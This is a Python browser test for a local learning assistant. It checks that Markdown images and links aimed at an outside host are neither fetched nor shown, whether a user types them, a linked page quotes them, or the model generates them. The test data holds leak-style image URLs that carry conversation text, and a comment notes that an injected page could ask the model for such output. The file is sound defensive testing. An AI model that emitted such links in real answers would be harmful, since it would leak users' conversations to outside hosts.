"""Nothing rendered makes the browser fetch a remote URL: typed, quoted or generated.

A listener on 127.0.0.1 stands in for a remote host. A Markdown image pointing at
it arrives by each of the three paths that once rendered it (a learner types one,
the offline answer quotes a linked page's list item holding one, a model writes
one), then the page is reloaded from the saved conversation. The listener must
see no request, and no ``<img>`` may point outside the app.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from assistant.knowledge.embeddings import SentenceEmbedder
from assistant.knowledge.ingest import ingest
from assistant.settings import Settings
from tests.browser import ARTIFACTS, CHROMIUM_FLAGS, chromium_path, running_app
from tests.conftest import link_models
from tests.fake_ollama import FakeOllama, free_port
from tests.local_http import QuietHandler, serve, shut

RL = "Which tools does the roadmap list for reinforcement learning?"
PAGE_QUESTION = "How do episodes end by time limit with terminated and truncated?"


class Listener:
    """Counts every request; a real remote host would have learned what its URL carried."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(QuietHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_bytes(200, b"GIF89a", "image/gif")

        self.server = serve(Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"


@pytest.fixture
def listener() -> Any:
    server = Listener()
    yield server
    shut(server.server)


def page_home(tmp_path: Path, models_dir: Path, listener: Listener) -> Path:
    """A home whose index holds the roadmap and one linked page with an image in a list."""
    mirror = tmp_path / "mirror"
    mirror.mkdir()
    (mirror / "gymnasium.md").write_text(
        "# Gymnasium migration guide\n\n"
        "## The step API\n\n"
        "- The step API now returns terminated and truncated instead of done "
        f"![step diagram]({listener.url}/leak?via=page) so episodes can end by time limit.\n"
        "- Reset returns the observation and an info dictionary; seed it with reset(seed=…).\n",
        encoding="utf-8",
    )
    manifest = [
        {
            "url": "https://gymnasium.farama.org/introduction/migration_guide/",
            "title": "Gymnasium migration guide",
            "file": "gymnasium.md",
            "format": "markdown",
        }
    ]
    (mirror / "manifest.json").write_text(json.dumps(manifest))
    home = tmp_path / "home"
    link_models(home, models_dir)
    settings = Settings.from_env({"ASSISTANT_HOME": str(home)}).with_(mirror=mirror)
    ingest(settings, SentenceEmbedder(settings), progress=False)
    return home


def ask_and_wait(page: Page, question: str, answers: int) -> None:
    page.locator("#question textarea").fill(question)
    page.locator("#question textarea").press("Enter")
    try:
        expect(page.locator("#chat .message.bot", has_text="Sources (")).to_have_count(
            answers, timeout=60_000
        )
    except AssertionError:
        page.screenshot(path=str(ARTIFACTS / "leaks-failed.png"), full_page=True)
        raise


def outside_images(page: Page, origin: str) -> list[str]:
    sources: list[str] = page.eval_on_selector_all(
        "img", "els => els.map(e => e.currentSrc || e.src || '')"
    )
    return [s for s in sources if s and not s.startswith((origin, "data:", "blob:"))]


def test_no_markdown_image_from_any_path_reaches_a_remote_host(
    tmp_path: Path, models_dir: Path, listener: Listener
) -> None:
    home = page_home(tmp_path, models_dir, listener)
    generated = [
        "Gymnasium's step API returns terminated and truncated [1]. ",
        f"![chart]({listener.url}/leak?via=model&q=the+conversation) ",
        f"See [the details]({listener.url}/link) or {listener.url}/bare.",
    ]
    ollama = FakeOllama(reply=lambda body: generated).start()
    port = free_port()
    origin = f"http://127.0.0.1:{port}"
    env = {"OLLAMA_HOST": f"http://127.0.0.1:{free_port()}"}  # offline first: nothing listens
    try:
        with sync_playwright() as p:
            browser: Browser = p.chromium.launch(
                executable_path=chromium_path(), args=CHROMIUM_FLAGS
            )
            context = browser.new_context(viewport={"width": 1280, "height": 1000})
            page = context.new_page()
            with running_app(home, port, env, log=ARTIFACTS / "app-leaks-offline.log"):
                page.goto(origin + "/")
                expect(page.locator("#status")).to_contain_text("Offline mode", timeout=60_000)
                # 1. Typed by the learner.
                ask_and_wait(page, f"![typed]({listener.url}/leak?via=typed) {RL}", 1)
                expect(page.locator("#chat .message.user").last).to_contain_text("🖼 typed")
                # 2. Quoted by the offline answer from a linked page's list item.
                ask_and_wait(page, PAGE_QUESTION, 2)
                page.get_by_text("Sources (").last.click()
                expect(page.locator("#chat")).to_contain_text("Gymnasium migration guide")
                expect(page.locator("#chat")).to_contain_text("🖼 step diagram")
                page.screenshot(path=str(ARTIFACTS / "leaks-offline.png"), full_page=True)
            env = {"OLLAMA_HOST": ollama.url}
            with running_app(home, port, env, log=ARTIFACTS / "app-leaks-ollama.log"):
                page = context.new_page()  # the old tab saw its server go; a new one, same storage
                page.goto(origin + "/")
                expect(page.locator("#status")).to_contain_text("Ollama", timeout=60_000)
                # 3. Generated by the model (an injected page could ask for exactly this).
                expect(page.locator("#chat")).to_contain_text("🖼 typed", timeout=30_000)
                page.locator("#question textarea").fill(PAGE_QUESTION)
                page.locator("#question textarea").press("Enter")
                last = page.locator("#chat .message.bot", has_text="Gymnasium's step API").last
                expect(last).to_contain_text("🖼 chart", timeout=60_000)
                expect(last).to_contain_text("See the details")
                assert last.locator(f"a[href^='{listener.url}']").count() == 0
                assert outside_images(page, origin) == []
                # The turn is saved by the handler's last update: let it finish before reloading.
                expect(page.locator("#chat")).not_to_contain_text("processing", timeout=60_000)
                page.wait_for_timeout(1_000)
                page.reload()  # the saved conversation is rendered again
                expect(page.locator("#chat")).to_contain_text("🖼 chart", timeout=30_000)
                expect(page.locator("#chat")).to_contain_text("🖼 typed")
                page.screenshot(path=str(ARTIFACTS / "leaks-after-reload.png"), full_page=True)
                assert outside_images(page, origin) == []
                assert page.locator(f"#chat a[href^='{listener.url}']").count() == 0
            browser.close()
    finally:
        ollama.stop()
    assert listener.hits == []
